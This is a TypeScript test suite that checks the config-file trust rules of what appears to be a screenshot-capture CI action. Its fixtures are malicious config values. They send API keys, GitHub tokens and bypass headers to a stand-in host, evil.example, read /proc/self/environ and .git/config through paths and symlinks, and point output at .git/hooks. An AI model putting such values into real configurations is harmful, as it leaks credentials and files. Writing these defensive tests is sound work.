import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { InputError } from '../../src/errors/problem.ts';
import type { Inputs } from '../../src/inputs/inputs.ts';
import { loadInputs } from '../../src/inputs/load.ts';
import type { InputName } from '../../src/inputs/spec.ts';
import { type TrustRuleName, trustRules } from '../../src/inputs/trust-rules.ts';
import type { FoundTarget } from '../../src/plan/discovery.ts';
import { openWorkspace } from '../../src/system/workspace.ts';

/** What the workflow says, what the file says, and what must come of it. */
interface Case {
  readonly inputs?: Partial<Record<InputName, string>>;
  readonly file?: string;
  readonly env?: Record<string, string>;
  /** Before the inputs are read; the repository is the folder `work` of `root`. */
  readonly prepare?: (root: string) => Promise<void>;
  /** What `discover` finds. */
  readonly found?: readonly FoundTarget[];
  /** What is said of the one thing that is wrong; absent: nothing is. */
  readonly refusal?: string;
  readonly result?: (inputs: Inputs) => unknown;
  readonly expected?: unknown;
}

const key = 'sk_live_of_the_workflow';
const evil = 'https://evil.example';
const preview = 'https://preview.example';
const page = `targets: [${evil}/]\n`;
const headers = 'x-bypass: open-sesame';
const credentials = '{"setExtraHTTPHeaders": {"x-bypass": "open-sesame"}}';
const keyDestination = 'visual-capture.yml:1: api-url stands in the config file, and api-key comes from the workflow';
const headerDestination = 'visual-capture.yml:1: base-url stands in the config file, and page-headers comes from the workflow';
const withheld = (name: string, line = 1): string => `visual-capture.yml:${line}: \${${name}} holds a secret of the run`;

const cases: { readonly [Rule in TrustRuleName]: Readonly<Record<string, Case>> } = {
  key: {
    'a literal key in the file': {
      inputs: { 'api-key': '' },
      file: `engine: local\napi-key: ${key}\n${page}`,
      refusal: 'api-key must not stand in a file',
    },
    'a key that the file takes from a variable': {
      inputs: { 'api-key': '' },
      file: `api-key: \${KEY}\n${page}`,
      env: { KEY: 'sk_live_of_a_variable' },
      result: ({ engine }) => engine,
      expected: { apiKey: 'sk_live_of_a_variable' },
    },
  },
  'key-destination': {
    'the key of the workflow': { file: `api-url: ${evil}/\n${page}`, refusal: keyDestination },
    'the key of the environment, named by the file': {
      inputs: { 'api-key': '' },
      file: `api-url: ${evil}/\napi-key: \${APISCREENSHOT_API_KEY}\n${page}`,
      env: { APISCREENSHOT_API_KEY: key },
      refusal: keyDestination,
    },
    'a key that the file takes from a variable': {
      inputs: { 'api-key': '' },
      file: `api-url: ${evil}/\napi-key: \${KEY}\n${page}`,
      env: { KEY: 'sk_live_of_a_variable' },
      result: ({ engine }) => engine,
      expected: { apiUrl: new URL(evil) },
    },
    'an address of the workflow': {
      inputs: { 'api-url': 'https://api.example/' },
      file: page,
      result: ({ engine }) => engine,
      expected: { apiUrl: new URL('https://api.example/') },
    },
  },
  'header-destination': {
    'a preview of the file': {
      inputs: { 'page-headers': headers },
      file: `base-url: ${evil}\ntargets: [/]\n`,
      refusal: headerDestination,
    },
    'a deployment that the file chooses': {
      inputs: { 'page-headers': headers },
      file: 'deployment: evil\ntargets: [/]\n',
      refusal: 'visual-capture.yml:1: deployment stands in the config file, and page-headers comes from the workflow',
    },
    'a path of the file behind a deployment of the workflow': {
      inputs: { 'page-headers': headers, deployment: 'true' },
      file: 'base-url: /docs\ntargets: [/]\n',
      result: ({ pageHeaders }) => pageHeaders.origins,
      expected: ['https://unknown-preview.invalid'],
    },
    'targets of the file alone': {
      inputs: { 'page-headers': headers },
      file: page,
      refusal: 'page-headers goes to the origin of base-url, or of the targets in urls, and neither is set',
    },
    'targets of both, without a preview': {
      inputs: { 'page-headers': headers, urls: `${preview}/a` },
      file: page,
      result: ({ pageHeaders }) => pageHeaders.origins,
      expected: [preview],
    },
    'a target of the file beside a preview of the workflow': {
      inputs: { 'page-headers': headers, 'base-url': preview },
      file: page,
      result: ({ pageHeaders }) => pageHeaders.origins,
      expected: [preview],
    },
    'headers that the file takes from a variable': {
      file: `base-url: ${preview}\npage-headers: \${HEADERS}\ntargets: [/]\n`,
      env: { HEADERS: headers },
      result: ({ pageHeaders }) => pageHeaders,
      expected: { values: { 'x-bypass': 'open-sesame' }, origins: [preview] },
    },
  },
  'option-destination': {
    'a target of the file on another origin': {
      inputs: { 'api-options': credentials, 'base-url': preview },
      file: page,
      refusal: `visual-capture.yml:1: api-options of the workflow or the command line hold setExtraHTTPHeaders, which would be sent to ${evil}`,
    },
    'a preview of the file': {
      inputs: { 'api-options': credentials },
      file: `base-url: ${evil}\ntargets: [/]\n`,
      refusal: `which would be sent to ${evil}, and only the config file names that`,
    },
    'html of the file': {
      inputs: { 'api-options': credentials, 'base-url': preview },
      file: `targets: [{name: a, html: "<img src=${evil}>"}]\n`,
      refusal: 'which would be sent to whatever this html loads',
    },
    'a path of the workflow below a preview of the file': {
      inputs: { 'api-options': credentials, urls: '/' },
      file: `base-url: ${evil}\n`,
      refusal: `which would be sent to ${evil}, and only the config file names that`,
    },
    'a page of the preview': {
      inputs: { 'api-options': credentials, 'base-url': preview },
      file: 'targets: [/a]\n',
      result: ({ captures }) => captures.length,
      expected: 1,
    },
    'options that open nothing': {
      inputs: { 'api-options': '{"omitBackground": true}' },
      file: page,
      result: ({ captures }) => captures.length,
      expected: 1,
    },
  },
  discovery: {
    'a page that a sitemap of the file has elsewhere lies at base-url': {
      inputs: { 'base-url': preview, 'api-options': credentials },
      file: `discover: {sitemap: ${evil}/sitemap.xml}\n`,
      found: [{ url: '/a', by: 'sitemap' }],
      result: ({ captures }) => captures.map(({ page }) => page),
      expected: [{ kind: 'url', url: `${preview}/a` }],
    },
    'headers of the workflow go to base-url alone': {
      inputs: { 'base-url': preview, 'page-headers': headers },
      file: `discover: {storybook: ${evil}/}\n`,
      found: [{ url: `${evil}/iframe.html?viewMode=story&id=a`, by: 'storybook', story: { id: 'a', name: 'a' } }],
      result: ({ pageHeaders }) => pageHeaders.origins,
      expected: [preview],
    },
    'options of the workflow go to no Storybook that the file alone names': {
      inputs: { 'base-url': preview, 'api-options': credentials },
      file: `discover: {storybook: ${evil}/}\n`,
      found: [{ url: `${evil}/iframe.html?viewMode=story&id=a`, by: 'storybook', story: { id: 'a', name: 'a' } }],
      refusal: `visual-capture.yml:1: api-options of the workflow or the command line hold setExtraHTTPHeaders, which would be sent to ${evil}`,
    },
  },
  program: {
    'a program of the repository': {
      file: `engine: local\nbrowser-path: ./evil.sh\n${page}`,
      refusal: 'visual-capture.yml:2: browser-path is an input of the workflow or the command line, not of the config file',
    },
  },
  browser: {
    'a version of the file': {
      file: `engine: local\nbrowser: chrome@154.0.8100.2\n${page}`,
      result: ({ engine }) => engine,
      expected: { kind: 'local', browser: { kind: 'version', version: '154.0.8100.2' } },
    },
    'a path of the file': {
      file: `engine: local\nbrowser: ./evil.sh\n${page}`,
      refusal: 'visual-capture.yml:2: browser must be system, stable or a whole version such as chrome@154.0.8100.2',
    },
    'an address of the file': {
      file: `engine: local\nbrowser: chrome@${evil}/chrome.zip\n${page}`,
      refusal: 'visual-capture.yml:2: browser must be system, stable or a whole version',
    },
    'a version that leads out of the cache': {
      file: `engine: local\nbrowser: chrome@../../../evil\n${page}`,
      refusal: 'visual-capture.yml:2: browser must be system, stable or a whole version',
    },
    'a host of the file': {
      file: `engine: local\nbrowser: stable\nPUPPETEER_CHROME_DOWNLOAD_BASE_URL: ${evil}\n${page}`,
      refusal: 'visual-capture.yml:3: unknown key "PUPPETEER_CHROME_DOWNLOAD_BASE_URL"',
    },
  },
  folders: {
    'an output outside': {
      file: `output: ../elsewhere\n${page}`,
      refusal: 'visual-capture.yml:1: output "../elsewhere" lies outside of the workspace',
    },
    'an output of git': {
      file: `output: sub/.GIT/hooks\n${page}`,
      refusal: 'output "sub/.GIT/hooks" lies outside of the workspace or in .git',
    },
    'baselines outside': {
      file: `baseline-directory: /etc\n${page}`,
      refusal: 'baseline-directory "/etc" lies outside of the workspace',
    },
    'an output outside, by the workflow': {
      inputs: { output: '/var/shots' },
      file: page,
      result: ({ output }) => output,
      expected: '/var/shots',
    },
  },
  links: {
    'a config file that leads out': {
      prepare: (root) => symlink('../secret.yml', join(root, 'work/visual-capture.yml')),
      refusal: 'config "visual-capture.yml" cannot be read: it is a link that leads out of the workspace',
    },
    'one that the workflow names, in the workspace': {
      inputs: { config: 'mine.yml' },
      prepare: (root) => symlink('../secret.yml', join(root, 'work/mine.yml')),
      refusal: 'config "mine.yml" cannot be read: it is a link that leads out of the workspace',
    },
  },
  files: {
    'a file outside': {
      file: 'targets: [{name: a, html-file: ../secret.yml}]\n',
      refusal: 'html-file "../secret.yml" lies outside of the workspace',
    },
    'a file of the system': {
      file: 'targets: [{name: a, html-file: /proc/self/environ}]\n',
      refusal: 'lies outside of the workspace',
    },
    'the credentials of git': {
      file: 'targets: [{name: a, html-file: .git/config}]\n',
      refusal: 'lies outside of the workspace or in .git',
    },
    'a link that leads out': {
      file: 'targets: [{name: a, html-file: a.html}]\n',
      prepare: (root) => symlink('/proc/self/environ', join(root, 'work/a.html')),
      refusal: 'html-file "a.html" cannot be read: it is a link that leads out of the workspace',
    },
    'a link to the files of git': {
      file: 'targets: [{name: a, html-file: a.html}]\n',
      prepare: async (root) => {
        await mkdir(join(root, 'work/.git'));
        await writeFile(join(root, 'work/.git/config'), 'secret');
        await symlink('.git/config', join(root, 'work/a.html'));
      },
      refusal: 'html-file "a.html" cannot be read: it is a link to a file of git',
    },
    'a folder': {
      file: 'targets: [{name: a, html-file: sub}]\n',
      prepare: async (root) => void (await mkdir(join(root, 'work/sub'))),
      refusal: 'html-file "sub" cannot be read: it is not a regular file',
    },
    'a file that is too large': {
      file: 'targets: [{name: a, html-file: a.html}]\n',
      prepare: (root) => writeFile(join(root, 'work/a.html'), 'x'.repeat(6_000_000)),
      refusal: 'html-file "a.html" cannot be read: it has 6000000 bytes, more than the 5242880 that are read',
    },
    'a file of the workspace': {
      file: 'targets: [{name: a, html-file: sub/a.html}]\n',
      prepare: async (root) => {
        await mkdir(join(root, 'work/sub'));
        await writeFile(join(root, 'work/sub/a.html'), 'hello');
      },
      result: ({ captures }) => captures[0]?.page,
      expected: { kind: 'html', html: 'hello' },
    },
  },
  config: {
    'a file outside that the workflow names': {
      inputs: { config: '../secret.yml' },
      result: ({ captures }) => captures.length,
      expected: 1,
    },
  },
  variables: {
    'the key': {
      file: `targets: ["${evil}/\${APISCREENSHOT_API_KEY}"]\n`,
      env: { APISCREENSHOT_API_KEY: key },
      refusal: withheld('APISCREENSHOT_API_KEY'),
    },
    'the key under another name': { file: `targets: ["${evil}/\${K}"]\n`, env: { K: `Bearer ${key}` }, refusal: withheld('K') },
    'the token of GitHub': {
      file: `targets: ["${evil}/\${GITHUB_TOKEN}"]\n`,
      env: { GITHUB_TOKEN: 'x' },
      refusal: withheld('GITHUB_TOKEN'),
    },
    'the token under another name': {
      inputs: { 'github-token': 'ghs_of_the_job' },
      file: `targets: ["${evil}/\${T}"]\n`,
      env: { T: 'ghs_of_the_job' },
      refusal: withheld('T'),
    },
    'the runtime of the runner': {
      file: `targets: ["${evil}/\${ACTIONS_X}"]\n`,
      env: { ACTIONS_X: 'x' },
      refusal: withheld('ACTIONS_X'),
    },
    'a header under another name': {
      inputs: { 'page-headers': headers, 'base-url': preview },
      file: `targets: ["${evil}/\${BYPASS}"]\n`,
      env: { BYPASS: 'open-sesame' },
      refusal: withheld('BYPASS'),
    },
    'in the options of the request': {
      file: `api-options: {a: ["\${APISCREENSHOT_API_KEY}"]}\n${page}`,
      env: { APISCREENSHOT_API_KEY: key },
      refusal: withheld('APISCREENSHOT_API_KEY'),
    },
    'what a secret setting of the file names': {
      inputs: { 'api-key': '' },
      file: `api-key: \${KEY}\ntargets: ["${evil}/\${KEY}"]\n`,
      env: { KEY: 'sk_live_of_a_variable' },
      refusal: 'visual-capture.yml:2: ${KEY} is set for a secret of this file, and stands nowhere else in it',
    },
    'a preview whose address holds the header': {
      inputs: { 'page-headers': headers, 'base-url': preview },
      file: 'targets: ["/${PREVIEW}"]\n',
      env: { PREVIEW: 'a?x-bypass=open-sesame' },
      result: ({ captures }) => captures.length,
      expected: 1,
    },
  },
  step: {
    'targets as the workflow writes them': {
      file: `urls: ${evil}\n`,
      refusal: 'urls is an input of the workflow or the command line, not of the config file',
    },
    'the mode': { file: `mode: accept\n${page}`, refusal: 'mode is an input of the workflow or the command line' },
    'the token': {
      file: `github-token: \${X}\n${page}`,
      refusal: 'github-token is an input of the workflow or the command line',
    },
  },
};

let root: string;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'trust-'));
  await mkdir(join(root, 'work'));
  await writeFile(join(root, 'secret.yml'), page);
});
afterEach(() => rm(root, { recursive: true, force: true }));

async function load({ inputs = {}, file, env = {}, prepare, found = [] }: Case): Promise<Inputs> {
  await prepare?.(root);
  if (file !== undefined) {
    await mkdir(dirname(join(root, 'work/visual-capture.yml')), { recursive: true });
    await writeFile(join(root, 'work/visual-capture.yml'), file);
  }
  const values = new Map(Object.entries({ 'api-key': key, ...inputs })) as Map<InputName, string>;
  return loadInputs({ values, env, fork: false, purpose: 'check' }, openWorkspace(join(root, 'work')), {
    findTargets: async () => ({ found, leftOut: [], notes: [], problems: [] }),
  });
}

for (const [rule, { settings, configFile }] of Object.entries(trustRules)) {
  describe(`the config file may set ${settings}: ${configFile}`, () => {
    it.each(Object.entries(cases[rule as TrustRuleName]))('%s', async (_, one) => {
      if (one.refusal === undefined) {
        expect(one.result?.(await load(one))).toEqual(
          typeof one.expected === 'object' && !Array.isArray(one.expected) ? expect.objectContaining(one.expected) : one.expected,
        );
        return;
      }
      const error = await load(one).catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(InputError);
      const { problems, message } = error as InputError;
      expect(message).toContain(one.refusal);
      expect(problems, 'and nothing else is wrong').toHaveLength(1);
    });
  });
}
